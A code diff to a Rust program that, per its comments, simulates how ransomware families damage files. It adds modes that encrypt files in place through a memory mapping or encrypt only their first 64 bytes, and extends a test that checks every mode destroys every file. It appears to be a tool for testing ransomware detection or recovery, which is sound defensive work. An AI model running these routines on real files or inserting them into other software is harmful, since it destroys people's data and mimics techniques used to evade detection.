@@ -11,16 +11,21 @@ use crate::failure::Failure;
 use crate::files::{list, with_ending};
 use crate::options::Options;
 use crate::report::Report;
+use crate::sys::memory::Mapping;
 
 /// What happens to each file; each is how some family of ransomware works.
 #[derive(Clone, Copy, Debug, Eq, PartialEq)]
-enum Mode {
+pub(crate) enum Mode {
     /// Encrypts in place, then renames to `.locked`.
     RewriteRename,
     /// Writes an encrypted copy named `.locked`, then unlinks the original.
     NewUnlink,
     /// Encrypts in place and keeps the name.
     InPlace,
+    /// Encrypts in place through a shared mapping and keeps the name.
+    Mapped,
+    /// Encrypts only the beginning, in place, and keeps the name.
+    Partial,
     /// Only renames to `.locked`.
     RenameOnly,
     /// Opens with truncation, writes the encrypted content, keeps the name.
@@ -35,6 +40,8 @@ impl FromStr for Mode {
             "rewrite-rename" => Ok(Self::RewriteRename),
             "new-unlink" => Ok(Self::NewUnlink),
             "inplace" => Ok(Self::InPlace),
+            "mmap" => Ok(Self::Mapped),
+            "partial" => Ok(Self::Partial),
             "rename-only" => Ok(Self::RenameOnly),
             "truncate" => Ok(Self::Truncate),
             _ => Err(()),
@@ -73,7 +80,7 @@ fn encrypt_all(paths: &[PathBuf], mode: Mode, delay: Duration) -> Result<(), Fai
 }
 
 /// Encrypts one file.
-fn encrypt(path: &Path, mode: Mode) -> Result<(), Failure> {
+pub(crate) fn encrypt(path: &Path, mode: Mode) -> Result<(), Failure> {
     let locked = with_ending(path, ".locked");
     match mode {
         Mode::RewriteRename => {
@@ -87,6 +94,13 @@ fn encrypt(path: &Path, mode: Mode) -> Result<(), Failure> {
             fs::remove_file(path).map_err(Failure::file("removing", path))
         }
         Mode::InPlace => rewrite(path),
+        Mode::Mapped => rewrite_mapped(path),
+        Mode::Partial => {
+            let mut bytes = encrypted(path)?;
+            bytes.truncate(BEGINNING);
+            let open = OpenOptions::new().write(true).open(path);
+            open.and_then(|mut file| file.write_all(&bytes)).map_err(Failure::file("writing", path))
+        }
         Mode::RenameOnly => fs::rename(path, &locked).map_err(Failure::file("renaming", path)),
         Mode::Truncate => {
             let bytes = encrypted(path)?;
@@ -96,8 +110,24 @@ fn encrypt(path: &Path, mode: Mode) -> Result<(), Failure> {
     }
 }
 
+/// How much of a file [`Mode::Partial`] encrypts, in bytes.
+const BEGINNING: usize = 64;
+
+/// Encrypts a file through a mapping: no call writes.
+fn rewrite_mapped(path: &Path) -> Result<(), Failure> {
+    let bytes = encrypted(path)?;
+    if bytes.is_empty() {
+        return Ok(());
+    }
+    let open = OpenOptions::new().read(true).write(true).open(path);
+    let file = open.map_err(Failure::file("opening", path))?;
+    let mut mapping = Mapping::of_file(&file, bytes.len()).map_err(Failure::file("mapping", path))?;
+    mapping.write(&bytes);
+    Ok(())
+}
+
 /// The encrypted content of a file.
-fn encrypted(path: &Path) -> Result<Vec<u8>, Failure> {
+pub(crate) fn encrypted(path: &Path) -> Result<Vec<u8>, Failure> {
     let mut bytes = fs::read(path).map_err(Failure::file("reading", path))?;
     Stream::new(bytes.len() as u64).combine(&mut bytes);
     Ok(bytes)
@@ -120,7 +150,8 @@ mod tests {
 
     #[test]
     fn every_mode_loses_every_file() {
-        for mode in ["rewrite-rename", "new-unlink", "inplace", "rename-only", "truncate"] {
+        for mode in ["rewrite-rename", "new-unlink", "inplace", "mmap", "partial", "rename-only", "truncate"]
+        {
             let folder = Folder::new(mode);
             folder.prepare(9);
             ransom(&folder.options(&format!("--mode {mode} --threads 2"))).unwrap();
